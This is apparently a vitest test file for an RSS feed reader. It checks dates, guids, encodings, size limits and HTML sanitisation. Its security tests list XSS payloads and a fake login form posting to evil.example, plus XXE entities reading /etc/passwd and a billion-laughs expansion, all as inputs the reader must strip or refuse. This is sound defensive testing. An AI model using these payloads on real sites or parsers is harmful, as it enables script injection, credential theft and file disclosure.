import { expect, test } from 'vitest'
import { feedItem, feedOf } from '../testing/feed-server.ts'
import { readFeed } from './read-feed.ts'

const url = 'https://news.example/feeds/newsrss.xml'
const bytes = (text: string, encoding: BufferEncoding = 'utf8') => Buffer.from(text, encoding)
const read = (text: string) => readFeed({ body: bytes(text), contentType: 'application/rss+xml', url })
const readItem = (parts: Record<string, string | undefined>) => read(feedOf(feedItem(parts)))
const contentOf = (description: string) => readItem({ description: `<![CDATA[${description}]]>` })[0]?.content

test('[NEWS-08] makes a news item from title, description, pubDate and guid', () => {
  const item = { title: 'New form', description: '<![CDATA[<p>It is <em>here</em>.</p>]]>', guid: 'news-1' }
  expect(readItem(item)).toEqual([
    {
      title: 'New form',
      content: '<p>It is <em>here</em>.</p>',
      last_modified_date: '2026-11-18T15:00:00.000Z',
      guid: 'news-1',
    },
  ])
})

test('[NEWS-08] reads titles and texts in CDATA, escaped, and mixed', () => {
  expect(readItem({ title: '<![CDATA[R&D <b>today</b>]]>' })[0]?.title).toBe('R&D today')
  expect(readItem({ title: 'R&amp;D &lt;b&gt;today&lt;/b&gt; &#8217;til &eacute;' })[0]?.title).toBe('R&D today ’til é')
  expect(readItem({ title: 'A &amp; <![CDATA[B & &lt;C&gt;]]> &amp; D' })[0]?.title).toBe('A & B & <C> & D')
  expect(readItem({ title: '  two\n   lines ' })[0]?.title).toBe('two lines')
  expect(readItem({ description: '&lt;p&gt;a &amp;amp; b&lt;/p&gt;' })[0]?.content).toBe('<p>a &amp; b</p>')
  expect(contentOf('<p>1 &lt; 2 ]]]]><![CDATA[> 3</p>')).toBe('<p>1 &lt; 2 ]]&gt; 3</p>')
  expect(contentOf('<p>says </item> and <item></p>')).toBe('<p>says  and </p>')
})

test.each([
  ['Wed, 18 Nov 2026 10:00:00 -0500', '2026-11-18T15:00:00.000Z'],
  ['Wed, 18 Nov 26 10:00:00 -0500', '2026-11-18T15:00:00.000Z'],
  ['18 Nov 2026 10:00:00 -0500', '2026-11-18T15:00:00.000Z'],
  ['Wed, 18 Nov 2026 10:00 EST', '2026-11-18T15:00:00.000Z'],
  ['Wednesday, 1 July 2026 10:00:00 EDT', '2026-07-01T14:00:00.000Z'],
  ['Wed, 18 Nov 2026 15:00:00 GMT', '2026-11-18T15:00:00.000Z'],
  ['Wed, 18 Nov 2026 15:00:00 Z', '2026-11-18T15:00:00.000Z'],
  ['Wed, 18 Nov 2026 15:00:00', '2026-11-18T15:00:00.000Z'],
  ['Wed, 18 Nov 2026 20:30:00 +0530', '2026-11-18T15:00:00.000Z'],
  ['Wed, 18 Nov 98 15:00:00 GMT', '1998-11-18T15:00:00.000Z'],
  ['Sat, 29 Feb 28 12:00:00 PST', '2028-02-29T20:00:00.000Z'],
  ['2026-11-18T15:00:00Z', '2026-11-18T15:00:00.000Z'],
  ['2026-11-18T10:00:00.5-05:00', '2026-11-18T15:00:00.500Z'],
])('[NEWS-08] reads the date %s', (pubDate, date) => {
  expect(readItem({ pubDate })[0]?.last_modified_date).toBe(date)
})

test.each([
  '',
  'yesterday',
  'Wed, 31 Feb 2026 10:00:00 GMT',
  'Wed, 18 Nov 2026 25:00:00 GMT',
  'Wed, 18 Nov 026 10:00 GMT',
  'Wed, 18 Xyz 2026 10:00 GMT',
  '2026-13-40T10:00:00Z',
  'Wed, 18 Nov 2026 10:00 QQQ',
])('[NEWS-08] an item with the date "%s" is left out, and the others are not', (pubDate) => {
  const items = read(feedOf(feedItem({ pubDate, guid: 'bad' }), feedItem({ guid: 'good' })))
  expect(items.map(({ guid }) => guid)).toEqual(['good'])
})

test('[NEWS-08] an item without a guid gets one that stays the same, and of two with one guid the newer is kept', () => {
  const [first] = readItem({ guid: undefined, link: 'https://news.example/1' })
  expect(first?.guid).toMatch(/^[\w-]{43}$/)
  expect(readItem({ guid: undefined, link: 'https://news.example/1' })[0]?.guid).toBe(first?.guid)
  expect(readItem({ guid: undefined, link: 'https://news.example/2' })[0]?.guid).not.toBe(first?.guid)
  const old = feedItem({ title: 'Old', pubDate: 'Tue, 17 Nov 2026 10:00:00 GMT' })
  const items = [feedItem({ title: 'New' }), old, old]
  for (const order of [items, items.toReversed()])
    expect(read(feedOf(...order)).map(({ title }) => title)).toEqual(['New'])
})

test('[NEWS-08] puts the newest first, and leaves out what has no title', () => {
  const day = (number: number) => feedItem({ pubDate: `${number} Nov 2026 10:00:00 GMT`, guid: `${number}` })
  expect(read(feedOf(day(3), day(5), feedItem({ title: '' }), day(4))).map(({ guid }) => guid)).toEqual(['5', '4', '3'])
})

test('links that do not lead into the product, and the usual markup of a newsroom, stay', () => {
  expect(
    contentOf(
      '<p>See <a href="https://e.example/a?b=1&amp;c=2">this</a> or <a href="mailto:a@e.example">write</a>.</p>',
    ),
  ).toBe(
    '<p>See <a href="https://e.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">this</a> or <a href="mailto:a@e.example">write</a>.</p>',
  )
  expect(contentOf('<a href="/notes">notes</a>')).toContain('href="https://news.example/notes"')
  expect(contentOf('<a href="//other.example/">x</a>')).toContain('href="https://other.example/"')
  expect(contentOf('<ul><li>one<li>two</ul><ol><li><b>three</b></ol><h2>Next</h2><div><i>four</i><br></div>')).toBe(
    '<ul><li>one</li><li>two</li></ul><ol><li><strong>three</strong></li></ol><p>Next</p><p><em>four</em><br /></p>',
  )
})

const hostile = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))" class="usa-button" id="root">p</p>',
  '<a href="javascript:alert(1)">go</a>',
  '<a href=" &#106;ava\tscript:alert(1)">go</a>',
  '<a href="java&#10;script:alert(1)">go</a>',
  '<a href="JaVaScRiPt:alert(1)">go</a>',
  '<a href="vbscript:x">go</a>',
  '<a href="data:text/html,<script>alert(1)</script>">go</a>',
  '<a href="file:///etc/passwd">go</a>',
  '<a href="https://login.gov@evil.example/">go</a>',
  '<a href="https://e.example" onmouseover="alert(1)" ping="https://evil.example" target="_self">go</a>',
  '<a xlink:href="javascript:alert(1)" href>go</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example><base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p title="><img src=x onerror=alert(1)>">x</p>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<video autoplay onloadstart=alert(1)><source src=x></video><details open ontoggle=alert(1)>',
  '\u0000<\u0000script>alert(1)</\u0000script>',
  `${'<p>'.repeat(5000)}deep`,
]

const allowed =
  /^(?:<\/?(?:p|ul|ol|li|strong|em)>|<br \/>|<a href="(?:https?|mailto):[^"<>]*"(?: target="_blank" rel="noopener noreferrer")?>|<\/a>|[^<>])*$/

test.each(hostile)('[T32] nothing but allowed tags is left of %s', (markup) => {
  const inCdata = contentOf(`<p>before</p>${markup.replaceAll(']]>', ']]]]><![CDATA[>')}`)
  expect(inCdata).toMatch(allowed)
  const escaped = markup.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
  expect(readItem({ description: escaped })[0]?.content).toMatch(allowed)
  expect(readItem({ title: `Title ${escaped}` })[0]?.title).toMatch(/^Title/)
})

const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
test.each([
  ['an external entity', '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'],
  ['an external entity of the network', '<!DOCTYPE rss [<!ENTITY x SYSTEM "http://127.0.0.1:9/">]>', '&x;'],
  ['a billion laughs', `<!DOCTYPE rss [<!ENTITY l0 "ha">${laughs}]>`, '&l12;'],
  ['one great entity, often', `<!DOCTYPE rss [<!ENTITY x "${'a'.repeat(10_000)}">]>`, '&x;'.repeat(10_000)],
  ['a document type from elsewhere', '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/rss.dtd">', 'x'],
  ['a document type in lower case', '<!doctype rss [<!ENTITY x "y">]>', '&x;'],
])('[T32] a feed with %s is refused as a whole', (_, doctype, text) => {
  const feed = feedOf(feedItem({ title: text })).replace('?>', `?>${doctype}`)
  expect(() => read(feed)).toThrow('not_a_feed')
})

test.each([
  '',
  ' ',
  'not xml',
  '{"keys":[',
  '<html><body>Down for maintenance</body></html>',
  '<rss><![CDATA[',
  '<rss><!-- ',
  '<feed><item></item></feed>',
  '<'.repeat(100_000),
  `<rss>${'<![CDATA['.repeat(100_000)}`,
  `<rss>${'<!--'.repeat(100_000)}`,
])('[T32] anything that is not a feed is refused: %.40s', (text) => {
  expect(() => read(text)).toThrow('not_a_feed')
})

test('[T32] unknown names of characters stay as they are, and no name reaches into the program', () => {
  expect(readItem({ title: 'A &unknown; B &constructor;' })[0]?.title).toBe('A &unknown; B &constructor;')
  const item = feedItem().replace(
    '<item>',
    '<item><__proto__><title>bad</title></__proto__><constructor>x</constructor>',
  )
  expect(read(feedOf(item, feedItem({ guid: 'two' }))).map(({ guid }) => guid)).toContain('two')
  expect({}).not.toHaveProperty('title')
})

test('[T32] of 50,000 items it reads the first thousand and keeps 200', () => {
  const items = Array.from(
    { length: 50_000 },
    (_, n) => `<item><title>${n}</title><guid>${n}</guid><pubDate>1 Nov 2026 10:00 GMT</pubDate></item>`,
  )
  const kept = read(feedOf(...items))
  expect(kept).toHaveLength(200)
  expect(kept.every(({ guid }) => Number(guid) < 1000)).toBe(true)
})

test('[T32] items too long for a page are left out or cut, and a feed that breaks off in the middle gives its whole items', () => {
  expect(contentOf(`<p>${'a'.repeat(20_000)}</p>`)).toHaveLength(20_007)
  expect(contentOf(`<p>${'a'.repeat(20_001)}</p>`)).toBeUndefined()
  expect(contentOf('<br>'.repeat(20_000))).toBeUndefined()
  expect(contentOf('a'.repeat(200_000))).toBeUndefined()
  expect(readItem({ title: 'a'.repeat(400) })[0]?.title).toBe(`${'a'.repeat(299)}…`)
  const whole = feedOf(feedItem(), feedItem({ guid: 'two' }))
  expect(read(whole.slice(0, whole.lastIndexOf('<guid>'))).map(({ guid }) => guid)).toEqual(['one'])
  const large = Array.from({ length: 200 }, (_, n) => feedItem({ guid: `${n}`, description: 'a'.repeat(19_000) }))
  expect(read(feedOf(...large))).toHaveLength(105)
})

test.each([
  ['UTF-8 that is named nowhere', 'utf8', '', ''],
  ['UTF-8 with a byte order mark', 'utf8', '\ufeff', 'text/xml; charset=iso-8859-1'],
  ['Latin 1 by the header', 'latin1', '', 'text/xml; charset=ISO-8859-1'],
  ['Latin 1 by the declaration', 'latin1', '<?xml version="1.0" encoding="iso-8859-1"?>', ''],
  ['Latin 1 that calls itself UTF-8', 'latin1', '<?xml version="1.0" encoding="UTF-8"?>', 'text/xml; charset=utf-8'],
  ['UTF-16 with a byte order mark', 'utf16le', '\ufeff', ''],
  ['UTF-8 that calls itself UTF-16', 'utf8', '<?xml version="1.0" encoding="UTF-16"?>', ''],
  ['UTF-8 with an unknown charset', 'utf8', '', 'text/xml; charset=klingon'],
] as const)('[T32] reads %s', (_, encoding, start, contentType) => {
  const text = `${start}<rss><channel>${feedItem({ title: 'Café' })}</channel></rss>`
  const [item] = readFeed({ body: bytes(text, encoding), contentType, url })
  expect(item?.title).toBe('Café')
})

test('keeps no character that the database cannot keep', () => {
  const [item] = readItem({ title: 'a&#0;b\u0001c&#xD800;d', description: 'e\u0000f' })
  expect(item?.title.isWellFormed()).toBe(true)
  expect(JSON.stringify(item)).not.toMatch(/\\u0000|\\u0001|\\ud800/i)
})
